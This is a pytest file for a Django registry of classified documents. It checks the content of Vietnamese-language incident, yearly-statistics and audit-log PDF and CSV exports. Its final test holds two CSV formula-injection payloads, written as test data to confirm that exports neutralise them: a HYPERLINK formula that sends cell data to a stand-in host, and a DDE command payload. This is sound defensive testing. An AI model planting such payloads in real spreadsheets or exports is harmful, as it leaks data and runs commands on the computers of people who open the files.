"""Reports fit to send upward (#12): Vietnamese labels, one time convention, office, author, page numbers and
the chain range, words unbroken. Page 1 of each PDF is rendered to PNG (pypdfium2) for a person to look at:
the path is printed (REGISTRY_HOME/screenshots, or $REGISTRY_SCREENSHOTS)."""

import datetime as dt
import os
import re
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from django.conf import settings
from django.urls import reverse

from registry.audit.export import table_lines
from registry.audit.incident import incident_csv, incident_pdf, incident_report
from registry.audit.yearly import statistics_pdf, yearly_statistics
from registry.constants import Action, Level, Outcome, Role
from registry.models import Unit
from tests.audit.helpers import local, plant
from tests.factories import make_document, make_user

pytestmark = pytest.mark.django_db

RAW_CODES = ("download", "preview", "refused", "toi_mat", "tuyet_mat", "audit_export", "hand_over")


def screenshots_dir() -> Path:
    folder = Path(os.environ.get("REGISTRY_SCREENSHOTS") or Path(settings.REGISTRY_HOME) / "screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def render_first_page(content: bytes, name: str) -> Path:
    pdf = pdfium.PdfDocument(content)
    image = pdf[0].render(scale=1.6).to_pil()
    path = screenshots_dir() / name
    image.save(path)
    print(f"\n[screenshot] {path}")
    return path


def text_of(content: bytes) -> str:
    pdf = pdfium.PdfDocument(content)
    return "\n".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))


@pytest.fixture
def auditor(db):
    Unit.objects.get_or_create(code="BBV", defaults={"name": "Ban Bảo vệ bí mật"})
    user = make_user("kiemtra_bc", role=Role.AUDITOR, clearance=Level.TUYET_MAT, unit="BBV")
    user.last_name, user.first_name = "Trần Thị", "Hoa"
    user.save(update_fields=["last_name", "first_name"])
    return user


@pytest.fixture
def incident_doc(clerk):
    doc = make_document(clerk=clerk, level=Level.TOI_MAT, number="88-BC/BTCTW",
                        title="Danh sách nhân sự dự kiến Ban Chấp hành khóa mới")
    people = [make_user(f"canbo.bantochuc{i}", clearance=Level.TOI_MAT, unit="VP") for i in range(3)]
    for i, person in enumerate(people):
        plant(Action.DOWNLOAD, local(2026, 3, 10, 9, 5 * i), actor=person, document=doc,
              copy_id=f"cp-{i:02d}7f3a9c2e41", purpose="Chuẩn bị hồ sơ nhân sự trình Hội nghị")
        plant(Action.PREVIEW, local(2026, 3, 10, 10, 5 * i), actor=person, document=doc, purpose="Đối chiếu")
    plant(Action.VIEW, local(2026, 3, 11, 21, 30), actor=make_user("nguoila", clearance=Level.MAT), document=doc,
          outcome=Outcome.REFUSED)
    return doc


def test_incident_report_pdf_and_csv_read_as_a_report(incident_doc, auditor):
    report = incident_report(auditor, incident_doc.pk)
    content = incident_pdf(report, auditor=auditor)
    text = text_of(content)
    path = render_first_page(content, "incident-page1.png")
    (screenshots_dir() / "incident.pdf").write_bytes(content)
    assert path.stat().st_size > 10_000
    for expected in ("BÁO CÁO SỰ CỐ LỘ, MẤT TÀI LIỆU BÍ MẬT NHÀ NƯỚC", settings.REGISTRY_BODY.upper(),
                     "Người lập: Trần Thị Hoa, Ban Bảo vệ bí mật", "Asia/Ho_Chi_Minh", "Trang 1/",
                     "Kỳ báo cáo", "mã băm", "Tải bản sao có dấu", "Thành công", "Bị từ chối", "Tối mật",
                     "10/03/2026 09:05", "Thời gian", "Người thực hiện"):
        assert expected in text, expected
    words = set(re.findall(r"[\w.\-]+", text))
    for code in RAW_CODES:
        assert code not in words, f"raw code {code} in the report"
    assert not re.search(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}", text), "ISO timestamps with microseconds"
    for word in ("canbo.bantochuc1", "88-BC/BTCTW", "cp-017f3a9c2e41"):  # not broken mid-word
        assert word in text.replace("\r\n", " ").replace("\n", " "), word
    csv_text = incident_csv(report, auditor=auditor)
    for expected in (settings.REGISTRY_BODY, "Người lập: Trần Thị Hoa, Ban Bảo vệ bí mật", "Kỳ báo cáo: từ",
                     "Các mục trong báo cáo: từ mục số"):
        assert expected in csv_text, expected
    assert "Thời điểm ISO 8601 (kèm múi giờ)" in csv_text and "+07:00" in csv_text and "10/03/2026 09:05" in csv_text
    assert "Tải bản sao có dấu" in csv_text and ",download," not in csv_text


def test_yearly_statistics_pdf_reads_as_a_report(clerk, auditor):
    for day in (3, 4):
        make_document(clerk=clerk, direction="den", level=Level.MAT, arrival_date=dt.date(2020, 3, day))
    make_document(clerk=clerk, direction="di", level=Level.TUYET_MAT, issue_date=dt.date(2020, 6, 1))
    content = statistics_pdf(yearly_statistics(2020), auditor=auditor)
    text = text_of(content)
    render_first_page(content, "yearly-page1.png")
    for expected in ("BÁO CÁO THỐNG KÊ TÀI LIỆU BÍ MẬT NHÀ NƯỚC NĂM 2020", settings.REGISTRY_PARENT_BODY.upper(),
                     "từ ngày 15/12/2019 đến hết ngày 14/12/2020", "Người lập: Trần Thị Hoa", "Trang 1/1",
                     "Asia/Ho_Chi_Minh", "Đăng ký đến", "Tuyệt mật", "Tổng số tài liệu mật"):
        assert expected in text.replace("\r\n", " ").replace("\n", " "), expected


def test_log_export_pdf_and_csv_over_the_web(client, incident_doc, auditor):
    client.force_login(auditor)
    response = client.get(reverse("registry_audit_export", args=["pdf"]), {"document": incident_doc.pk})
    text = text_of(response.content)
    render_first_page(response.content, "log-export-page1.png")
    assert "NHẬT KÝ SỬ DỤNG TÀI LIỆU BÍ MẬT NHÀ NƯỚC" in text and "Điều kiện lọc: tài liệu #" in text
    assert "Xem trước" in text and "preview" not in set(re.findall(r"\w+", text))
    body = b"".join(client.get(reverse("registry_audit_export", args=["csv"]),
                               {"document": incident_doc.pk}).streaming_content).decode()
    header = table_lines(body)[0]
    assert header.startswith("Số thứ tự trong chuỗi,Thời gian (giờ Việt Nam),Thời điểm ISO 8601 (kèm múi giờ)")
    preamble = body.split(header)[0]
    for expected in (settings.REGISTRY_BODY, "NHẬT KÝ SỬ DỤNG TÀI LIỆU BÍ MẬT NHÀ NƯỚC", "Kỳ báo cáo: toàn bộ nhật ký",
                     "Người lập: Trần Thị Hoa, Ban Bảo vệ bí mật", "Asia/Ho_Chi_Minh", "Các mục trong báo cáo: từ mục số"):
        assert expected in preamble, expected
    assert ",Xem trước,Thành công," in body and "+07:00" in body and ",preview," not in body


def test_formula_injection_is_neutralised_in_every_audit_csv(client, incident_doc, auditor):
    evil = '=HYPERLINK("http://x.invalid/?d="&A1,"bấm")'
    plant(Action.SEARCH, local(2026, 3, 12, 9), actor=auditor, query=evil, result_count=0)
    plant(Action.VIEW, local(2026, 3, 12, 9), actor=auditor, document=incident_doc, purpose="+cmd|' /C calc'!A0")
    client.force_login(auditor)
    body = b"".join(client.get(reverse("registry_audit_export", args=["csv"])).streaming_content).decode()
    assert ",\"'=HYPERLINK(" in body and ",\"=HYPERLINK(" not in body and ",=HYPERLINK(" not in body
    assert ",'+cmd|" in body
    incident = client.get(reverse("registry_audit_incident", args=[incident_doc.pk, "csv"])).content.decode()
    assert ",'+cmd|" in incident and ",+cmd|" not in incident
